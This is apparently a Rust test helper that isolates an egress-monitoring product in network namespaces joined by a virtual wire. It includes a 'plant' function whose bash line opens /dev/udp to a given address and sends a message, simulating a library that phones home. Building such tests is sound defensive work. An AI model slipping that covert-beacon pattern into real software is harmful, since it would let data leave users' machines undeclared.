//! Two network namespaces and the wire between them: the test stays outside, the product goes inside. As root, or with user
//! namespaces; made with the system's tools, gone with their processes.

use anyhow::{Context, Result, ensure};
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};
use std::fs::File;
use std::net::IpAddr;
use std::os::fd::AsFd;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};

/// Set in the process that runs in namespaces.
pub const INSIDE: &str = "STRUCT_EGRESS_STAGE";
/// Who is asked for names: the other end of the wire.
pub const NAMES: &str = "10.77.0.1";
/// `smtp.example.jp`
pub const MAIL_IP: &str = "10.77.0.25";
/// `witness.example.jp`
pub const WITNESS_IP: &str = "10.77.0.43";
/// The witness's port.
pub const WITNESS: u16 = 8443;
/// A file of options for the next start, in the folder of the wrapper.
pub const MORE_OPTIONS: &str = "more-options";
const OUTSIDE_V6: &str = "fd77::1";

/// The namespace that the product is in.
pub struct Stage {
    holder: Child,
}

impl Drop for Stage {
    fn drop(&mut self) {
        let _ = self.holder.kill();
        let _ = self.holder.wait();
    }
}

/// `unshare` with what this account needs to make namespaces.
fn unshare() -> Command {
    let mut command = Command::new("unshare");
    if !rustix::process::geteuid().is_root() {
        command.args(["--user", "--map-current-user", "--keep-caps"]);
    }
    command.args(["--net", "--mount", "--"]);
    command
}

/// Why there can be no namespaces here; none when there can.
pub fn unavailable() -> Option<String> {
    let works =
        |command: &mut Command| command.stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|s| s.success());
    if !works(Command::new("ip").arg("-Version")) {
        return Some("there is no `ip` here (package iproute2)".to_owned());
    }
    // A wire as well as a namespace: some kernels have no veth.
    let wire = ["ip", "link", "add", "out", "type", "veth", "peer", "name", "in"];
    (!works(unshare().args(wire))).then(|| {
        "network namespaces can't be made here: neither root nor user namespaces, or no virtual wires".to_owned()
    })
}

/// Runs one test of this binary again, in namespaces.
pub fn again(test: &str) -> Result<ExitStatus> {
    let mut command = unshare();
    command.arg(std::env::current_exe()?).args(["--exact", test, "--ignored", "--nocapture"]).env(INSIDE, "1");
    command.status().context("unshare")
}

fn ip(words: &str) -> Result<()> {
    run(Command::new("ip").args(words.split(' ')))
}

fn run(command: &mut Command) -> Result<()> {
    let output = command.output().with_context(|| format!("{command:?}"))?;
    ensure!(output.status.success(), "{command:?}: {}", String::from_utf8_lossy(&output.stderr));
    Ok(())
}

impl Stage {
    /// Makes the namespace inside and the wire to it.
    pub fn set(folder: &Path) -> Result<Self> {
        let holder = Command::new("unshare").args(["--net", "--mount", "--", "sleep", "86400"]).spawn()?;
        let stage = Self { holder };
        let space = |pid: &str| std::fs::read_link(format!("/proc/{pid}/ns/mnt"));
        let own = space("self")?;
        super::until("the namespace", || Ok((space(&stage.pid())? != own).then_some(())))?;
        ip("link set lo up")?;
        ip(&format!("link add out type veth peer name in netns {}", stage.pid()))?;
        for address in [NAMES, MAIL_IP, WITNESS_IP] {
            ip(&format!("address add {address}/24 dev out"))?;
        }
        ip(&format!("address add {OUTSIDE_V6}/64 dev out nodad"))?;
        ip("link set out up")?;
        for words in [
            "link set lo up",
            "address add 10.77.0.2/24 dev in",
            "address add fd77::2/64 dev in nodad",
            "link set in up",
            // Whatever is sent anywhere comes to the other end of the wire.
            &format!("route add default via {NAMES}"),
            &format!("-6 route add default via {OUTSIDE_V6}"),
        ] {
            run(stage.enter().arg("ip").args(words.split(' ')))?;
        }
        let resolv = folder.join("resolv.conf");
        std::fs::write(&resolv, format!("nameserver {NAMES}\n"))?;
        std::fs::set_permissions(&resolv, std::fs::Permissions::from_mode(0o644))?;
        run(stage.enter().args(["mount", "--bind"]).arg(&resolv).arg("/etc/resolv.conf"))?;
        Ok(stage)
    }

    fn pid(&self) -> String {
        self.holder.id().to_string()
    }

    fn enter(&self) -> Command {
        let mut command = Command::new("nsenter");
        command.args(["--target", &self.pid(), "--net", "--mount", "--"]);
        command
    }

    /// Addresses at this end of the wire.
    pub fn outside_addresses(&self) -> Vec<IpAddr> {
        [NAMES, MAIL_IP, WITNESS_IP, OUTSIDE_V6].iter().map(|ip| ip.parse().expect("an address")).collect()
    }

    /// A program that is `binary`, inside; it trusts the authority besides the machine's.
    pub fn wrapper(&self, folder: &Path, binary: &Path, authority: &Path) -> Result<PathBuf> {
        let path = folder.join("struct-inside");
        let text = format!(
            "#!/bin/sh\nexec env STRUCT_BACKUP=off SSL_CERT_FILE='{}' nsenter --target {} --net --mount -- '{}' \"$@\" \
             $(cat '{}' 2>/dev/null)\n",
            authority.display(),
            self.pid(),
            binary.display(),
            folder.join(MORE_OPTIONS).display()
        );
        std::fs::write(&path, text)?;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))?;
        Ok(path)
    }

    /// Does something inside, on a thread of its own: a network namespace is a thread's.
    pub fn inside<T: Send>(&self, act: impl FnOnce() -> Result<T> + Send) -> Result<T> {
        let space = File::open(format!("/proc/{}/ns/net", self.pid()))?;
        std::thread::scope(|scope| {
            let inside = || {
                move_into_link_name_space(space.as_fd(), Some(LinkNameSpaceType::Network))?;
                act()
            };
            scope.spawn(inside).join().map_err(|_| anyhow::anyhow!("it panicked inside"))?
        })
    }

    /// A process of the product's account, working on its data directory, that speaks to somebody undeclared: what a library
    /// that phones home would do.
    pub fn plant(&self, data_dir: &Path, address: &str) -> Result<Planted> {
        let mut command = self.enter();
        if rustix::process::geteuid().is_root() {
            let account = host::account::Account::unprivileged().context("an account")?;
            let (uid, gid) = (format!("--reuid={}", account.uid), format!("--regid={}", account.gid));
            command.args(["setpriv", &uid, &gid, "--clear-groups"]);
        }
        let script = format!("exec 3<>/dev/udp/{address}/9; echo gone >&3; read -t 600 -u 3");
        let child = command.args(["bash", "-c", &script]).arg(data_dir).spawn()?;
        Ok(Planted(child))
    }
}

/// The planted process; gone when dropped.
pub struct Planted(Child);

impl Drop for Planted {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
